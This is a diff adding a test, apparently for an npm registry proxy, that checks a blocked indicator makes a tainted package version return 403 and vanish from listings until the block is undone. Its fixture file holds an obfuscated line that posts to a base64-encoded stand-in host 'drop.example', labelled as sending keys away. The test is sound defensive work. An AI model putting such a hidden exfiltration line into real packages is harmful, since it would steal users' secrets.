@@ -121,3 +121,19 @@ test('of a version that its upstream names by SHA-1 alone no byte goes out once 
   await measure(rae, { id: body.id }, '/undo')
   assert.equal(await fetched('old', '1.0.0'), 200)
 })
+
+test('what comes in from an upstream with a blocked text in it is closed before anybody gets a byte, and open with the end of the block', async t => {
+  const { upstream, world, rae, measure, listed, fetched } = await open(t)
+  const files = { 'lib/x.js': `post(atob("${Buffer.from('https://drop.example/take').toString('base64')}"))` }
+  upstream.publish('kit', '1.0.0', { files })
+  upstream.publish('kit', '1.0.1')
+  assert.equal(await listed('kit'), '1.0.0,1.0.1')
+  const { body } = await measure(rae, { kind: 'block', indicator: 'Drop.example', words: 'sends keys away' })
+  const refused = await world.npm('GET /kit/-/kit-1.0.0.tgz')
+  assert.equal(refused.status, 403)
+  assert.match(refused.text, /sends keys away/)
+  assert.equal(await fetched('kit', '1.0.1'), 200)
+  assert.equal(await listed('kit'), '1.0.1')
+  assert.equal((await measure(rae, { id: body.id }, '/undo')).body.state, 'undone')
+  assert.deepEqual([await listed('kit'), await fetched('kit', '1.0.0')], ['1.0.0,1.0.1', 200])
+})
